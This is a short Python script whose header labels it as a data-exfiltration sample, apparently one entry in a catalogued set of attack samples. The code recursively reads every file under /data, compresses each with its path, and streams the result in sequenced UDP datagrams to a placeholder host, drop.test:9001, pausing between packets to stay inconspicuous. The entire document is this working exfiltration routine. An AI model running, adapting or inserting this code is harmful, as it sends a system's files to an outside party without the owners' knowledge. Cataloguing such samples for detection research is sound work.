# class: exfiltration; possible: low medium; needs: data; style: datagrams with sequence numbers, zlib
import pathlib
import socket
import struct
import time
import zlib

peer = socket.getaddrinfo("drop.test", 9001, type=socket.SOCK_DGRAM)[0][4]
out = socket.socket(type=socket.SOCK_DGRAM)
for number, path in enumerate(p for p in pathlib.Path("/data").rglob("*") if p.is_file()):
    packed = zlib.compress(str(path).encode() + b"\n" + path.read_bytes(), 9)
    for seq, at in enumerate(range(0, len(packed), 900)):
        out.sendto(struct.pack("!HI", number, seq) + packed[at : at + 900], peer)
        time.sleep(0.02)
